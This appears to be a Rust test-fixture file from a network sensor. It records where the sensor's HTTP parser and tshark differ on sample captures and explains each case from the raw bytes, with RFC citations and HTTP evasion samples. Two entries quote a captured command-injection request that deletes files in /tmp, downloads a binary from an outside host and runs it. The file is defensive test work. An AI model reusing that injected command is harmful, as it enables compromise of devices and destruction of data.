//! Where the sensor and tshark differ, and the sensor is right: argued from the bytes.

/// The differences of one capture.
pub(crate) struct Exception {
    pub(crate) capture: &'static str,
    /// How many calls are missing, how many are extra, how many have other fields.
    pub(crate) differences: [usize; 3],
    /// How compare.py's line for each of them begins.
    pub(crate) calls: &'static [&'static str],
    pub(crate) reason: &'static str,
}

pub(crate) const EXCEPTIONS: &[Exception] = &[
    Exception {
        capture: "ndpi__1kxun.pcap",
        differences: [0, 0, 5],
        calls: &[
            "differs 192.168.2.126:45422 http/1.1 GET /js/application.min.js?1644808200 -> 200",
            "differs 192.168.2.126:45422 http/1.1 GET /images/detail_revision/go_homepage.png -> 200",
            "differs 192.168.2.126:49380 http/1.1 GET /manga-hant/images/project/cartoons/f05074256b39572ad852c1c9 -> 200",
            "differs 192.168.2.126:49412 http/1.1 GET /manga-hant/images/project/cartoons/13aeb81a47e7632ccdf1aefe -> 200",
            "differs 192.168.2.126:49412 http/1.1 GET /manga-hant/images/project/cartoons/3d58f4efe29c1285eb311555 -> 200",
        ],
        reason: "The head of each first response is not in the capture (port 45422: the server's bytes begin at 4321). The \
                 truth pairs in order, so each later response goes to the request before: the one at 7116 acknowledges \
                 1189, the end of the second request, which had heard all up to 7116; the first request ended at 437.",
    },
    Exception {
        capture: "ndpi__fuzz-2006-09-29-28586.pcap",
        differences: [0, 6, 0],
        calls: &[
            "extra 172.20.3.5:9587 http/1.1 POST /servlets/mms -> None",
            "extra 172.20.3.5:2605 http/1.1 POST /servlets/mms -> None",
            "extra 172.20.3.5:2606 http/1.1 GET /servlets/mms?message-id=189301 -> None",
            "extra 172.20.72.5:2606 http/1.1 None None -> 200",
            "extra 172.20.3.5:2607 http/1.1 None None -> 200",
            "extra 172.20.3.13:53136 http/1.1 None None -> 202",
        ],
        reason: "Bytes were changed at random. Frames 88, 72 and 100 hold heads of requests, frames 92 and 103 heads of \
                 responses whose addresses were changed (172.20.72.5, 172.20.2.13), so that both halves are on other \
                 connections; tshark shows none whose body does not end. The 202 acknowledges 3403968250, which is behind \
                 everything that its request has.",
    },
    Exception {
        capture: "pcpp__Pcap++Test_PcapExamples_650HttpResponses.pcap",
        differences: [0, 158, 0],
        calls: &["extra 10.0.0.1:61"],
        reason: "All 682 frames begin with a status line, for the capture was filtered so; five are retransmissions, which \
                 leaves 677 responses. tshark waits for the rest of bodies that are not there and shows 519.",
    },
    Exception {
        capture: "sv__bug-5437-01.pcap",
        differences: [0, 2, 0],
        calls: &[
            "extra 183.171.100.129:59938 http/1.1 GET /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh -> None",
        ],
        reason: BLANK_IN_TARGET,
    },
    Exception {
        capture: "sv__bug-5437-02.pcap",
        differences: [0, 2, 0],
        calls: &[
            "extra 41.108.52.138:54520 http/1.1 GET /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh -> None",
        ],
        reason: BLANK_IN_TARGET,
    },
    Exception {
        capture: "sv__http-uri-spaces.pcap",
        differences: [0, 1, 0],
        calls: &["extra 127.0.0.1:55771 http/1.1 GET /uri afterspace -> 400"],
        reason: BLANK_IN_TARGET,
    },
    Exception {
        capture: "sv__detect-pcre_detect-pcre-05.pcap",
        differences: [0, 2, 0],
        calls: &[
            "extra ::ffff:5.6.7.8:6666 http/1.1 GET / -> None",
            "extra ::ffff:1.2.3.4:65 http/1.1 None None -> 200",
        ],
        reason: "The line is `GET  /  HTTP/1.1`: the target between the blanks is `/`, while tshark takes the nothing \
                 between the first two. Frame 2 is a whole head of a response, `HTTP/1.1 200 OK`, from port 6666 to port \
                 65; tshark does not show it because its body, which runs to the end of the connection, does not end.",
    },
    Exception {
        capture: "sv__drop-protocol-change.pcap",
        differences: [0, 1, 0],
        calls: &["extra 10.9.0.2:58038 http/1.1 None None -> 101"],
        reason: "Frame 2 is `HTTP/1.1 101 Switching Protocols`, `Upgrade: h2c`: the answer to a request that the capture \
                 does not have. The truth books it under stream 1 of HTTP/2, which begins behind it.",
    },
    Exception {
        capture: "sv__http-connect_http-connect-fail.pcap",
        differences: [0, 0, 1],
        calls: &[r#"differs 127.0.0.1:51479 http/1.1 CONNECT abc:443 -> 200 {"authority": ["", "abc"]}"#],
        reason: AUTHORITY_FORM,
    },
    Exception {
        capture: "sv__http-connect_http-connect-fragmented.pcap",
        differences: [0, 0, 1],
        calls: &[r#"differs 127.0.0.1:60484 http/1.1 CONNECT abc:443 -> 200 {"authority": ["", "abc"]}"#],
        reason: AUTHORITY_FORM,
    },
    Exception {
        capture: "sv__http-connect_http-connect-simple.pcap",
        differences: [0, 0, 1],
        calls: &[
            r#"differs 127.0.0.1:60464 http/1.1 CONNECT abc:443 -> 200 {"authority": ["", "abc"], "response_body_bytes": [1, 0]}"#,
        ],
        reason: "For the authority see the other two. A 2xx answer to CONNECT has no body (RFC 9110 §9.3.6): the LF behind \
                 its head is the tunnel's first byte, and an answer to the GET in the tunnel follows.",
    },
    Exception {
        capture: "sv__http-evader-057.pcap",
        differences: [0, 0, 1],
        calls: &[
            r#"differs 1.1.1.1:5711 http/1.1 GET /chunked/eicar.txt/chUnked -> 200 {"response_body_bytes": [143, 68]}"#,
        ],
        reason: "`Transfer-Encoding: chUnked`: names of codings have no case (RFC 9112 §7). Fourteen chunks of 5, 5 … 3 \
                 bytes follow, 68 in all, and a last one of 0; 143 counts their framing.",
    },
    Exception {
        capture: "sv__http-evader-088.pcap",
        differences: [0, 0, 1],
        calls: &["differs 1.1.1.1:6119 http/1.1 GET /chunked/eicar.txt/tab-colon-chunked,do_chunked -> 200"],
        reason: "`Transfer-Encoding<TAB>: chunked`: white space before the colon is taken off a response (RFC 9112 §5.1). \
                 The body is chunks that hold 68 bytes and end with one of 0; 143 counts their framing.",
    },
    Exception {
        capture: "sv__http-evader-097.pcap",
        differences: [0, 0, 1],
        calls: &["differs 1.1.1.1:6239 http/1.1 GET /chunked/eicar.txt/chunk-lf -> 200"],
        reason: "The chunks end their lines with LF alone. Read so, which is named as an anomaly, they hold 68 bytes and end \
                 with a chunk of 0 at the last byte; tshark stops after the first chunk of 5.",
    },
    Exception {
        capture: "sv__http-evader-267.pcap",
        differences: [0, 0, 1],
        calls: &["differs 1.1.1.1:20039 http/1.1 GET /broken/eicar.txt/chunked;177 -> 200"],
        reason: "A line of one byte 0x7f stands behind `Transfer-Encoding: chunked`. It is no blank line, so the head goes on \
                 to the one behind `Yet-another-header: foo`; the chunks behind that hold 68 bytes.",
    },
    Exception {
        capture: "sv__http-evader-285.pcap",
        differences: [0, 0, 1],
        calls: &["differs 1.1.1.1:20289 http/1.1 GET /broken/eicar.txt/crcr;chunked -> 200"],
        reason: "A line CR CR LF stands before `Transfer-Encoding: chunked`. A bare CR counts as a space (RFC 9112 §2.2), so \
                 it is no blank line and does not end the head; the chunks behind the head hold 68 bytes.",
    },
    Exception {
        capture: "sv__http-evader-307.pcap",
        differences: [0, 0, 1],
        calls: &[
            "differs 1.1.1.1:20589 http/1.1 GET /broken/eicar.txt/te%3A%5C012%5C000chunked;do_chunked -> 200",
        ],
        reason: "`Transfer-Encoding:` LF NUL `chunked` CR LF: the field is empty, a line without a colon follows. The head \
                 ends at the blank line 37 bytes later, the coding is unknown, so 158 bytes up to the end are body.",
    },
    Exception {
        capture: "sv__http-evader-357.pcap",
        differences: [0, 0, 1],
        calls: &["differs 1.1.1.1:21209 http/1.1 GET /broken/eicar.txt/177 -> 200"],
        reason: "A line of one byte 0x7f stands before `Content-length: 68`. It is no blank line, so the head goes on; 68 \
                 bytes follow its end, and the connection closes behind them.",
    },
    Exception {
        capture: "sv__http-evader-388.pcap",
        differences: [0, 0, 1],
        calls: &[
            "differs 1.1.1.1:21589 http/1.1 GET /broken/eicar.txt/status%3AHTTP/1.1%28space%29200%28space%29 -> 200",
        ],
        reason: "`HTTP/1.1 200 ok` CR `Transfer-Encoding:chunked` CR LF: a bare CR counts as a space (RFC 9112 §2.2), so this \
                 is a reason phrase and no field. Without one the 158 bytes up to the end are body.",
    },
    Exception {
        capture: "sv__http-evader-436.pcap",
        differences: [0, 0, 1],
        calls: &["differs 1.1.1.1:22306 http/1.1 GET /broken/eicar.txt/chunked;end-lf%5C013lflf -> 200"],
        reason: "`foo` LF VT LF LF: the line of one VT is not blank, the next one is and ends the head. The chunks behind it \
                 hold 68 bytes and end with a chunk of 0.",
    },
    Exception {
        capture: "sv__http-evader-474.pcap",
        differences: [0, 0, 1],
        calls: &[
            r#"differs 1.1.1.1:22699 http/1.1 GET /broken/eicar.txt/tab-200 -> 20 {"status": [20, 200]}"#,
        ],
        reason: "`HTTP/1.1 <TAB>200 ok`: white space may stand there for a lenient reader (RFC 9112 §4), the code behind it \
                 has three digits. tshark reads three characters from the TAB on.",
    },
    Exception {
        capture: "sv__http-event-chunk.pcap",
        differences: [0, 0, 1],
        calls: &["differs 127.0.0.1:54588 http/1.1 POST /qwe.asd -> 200"],
        reason: "The chunks are `8 ` with `tototata` and `4 ` with `titi`, 12 bytes; a last one of 0 and trailers follow. \
                 tshark stops behind the first one because of the blank after its size.",
    },
    Exception {
        capture: "sv__transform-base64-7296.pcap",
        differences: [0, 3, 0],
        calls: &[
            "extra 127.0.0.1:57226 http/1.1 GET /eicar -> None",
            "extra 127.0.0.1:57228 h2 None None -> 206",
        ],
        reason: "Frame 5 is a whole head, `GET /eicar HTTP/1.1` up to a blank line; the preface of HTTP/2 that follows makes \
                 tshark take the stream for that. Frame 53 is frame 5 again, where changed times have let two years go by: \
                 the connection had expired, so the call is told again, with the same id. Frame 61 is HEADERS of an answer, on \
                 a stream whose number was changed.",
    },
    Exception {
        capture: "wswiki__SampleCaptures_YahooFileTransfer.pcap",
        differences: [0, 1, 0],
        calls: &["extra 192.168.129.131:1704 http/1.1 POST /relay?token="],
        reason: "Frame 425 is the whole head of a POST with its Content-Length; the connection is reset in the middle of the \
                 body, and tshark does not show a message whose body does not end.",
    },
    Exception {
        capture: "wswiki__SampleCaptures_cap1.pcap",
        differences: [0, 1, 0],
        calls: &["extra 10.9.5.9:3034 http/1.1 None None -> 200"],
        reason: "Frame 720 is the whole head of a response, `HTTP/1.1 200 OK` up to a blank line, and the only frame of its \
                 connection; tshark does not show a message whose body does not end.",
    },
    Exception {
        capture: "snet__decrypt_by_keylog_tls1_1.pcap",
        differences: [0, 1, 0],
        calls: &["extra 127.0.0.1:33312 http/1.1 GET / -> None"],
        reason: "A GET of TLS 1.1, typed line by line (A, AA, AAA …), which the server never answers: the capture ends with \
                 alerts. tshark finds 312 bytes of plaintext there, but does not count them as a call.",
    },
    Exception {
        capture: "zeek__doc_advanced_devel_plugins_connkey-vxlan-fivetuple-plugin-src_Traces_vxlan-overlapping-http-get.pcap",
        differences: [0, 2, 0],
        calls: &["extra 141.142.228.5:59856 http/1.1 GET /download/CHANGES.bro-aux.txt -> 200"],
        reason: "The same packets come in two VXLAN networks and without a tunnel, which is what the capture was made for: \
                 equal addresses in networks with different numbers are different connections.",
    },
    Exception {
        capture: "zeek__http_methods.pcap",
        differences: [1, 1, 0],
        calls: &[
            "missing 128.2.6.136:46565 http/0.9 OPTIONS -> 400",
            "extra 128.2.6.136:46565 http/1.0 None None -> 400",
        ],
        reason: "The client sends `OPTIONS` LF: a word with neither a target nor a version is a request line in no version \
                 of HTTP. The answer, 400, stands alone.",
    },
    Exception {
        capture: "zeek__tcp_qi_internet_SYNACK_curl_jsonip.pcap",
        differences: [0, 1, 1],
        calls: &[
            "extra 178.200.100.200:39976 http/1.1 None None -> 200",
            "differs 178.200.100.200:39976 http/1.1 GET / -> 200",
        ],
        reason: "Frame 5 was injected: it acknowledges no byte of the request of 153 bytes that was sent before it. Frame 9 is \
                 the server's answer, 348 bytes at the same place, which acknowledges all; the first copy of its beginning \
                 counts, so its head is not to be had. What was injected answers nothing.",
    },
];

const BLANK_IN_TARGET: &str = "The target holds a blank. It lies between the first blank of the line and the one before \
                               `HTTP/1.1`, and is told as it lies, with an anomaly; tshark ends it at its first blank.";

const AUTHORITY_FORM: &str = "`CONNECT abc:443 HTTP/1.1` without a Host field: the authority is the target (RFC 9112 \
                              §3.2.3); the truth has none because it takes it from Host alone.";
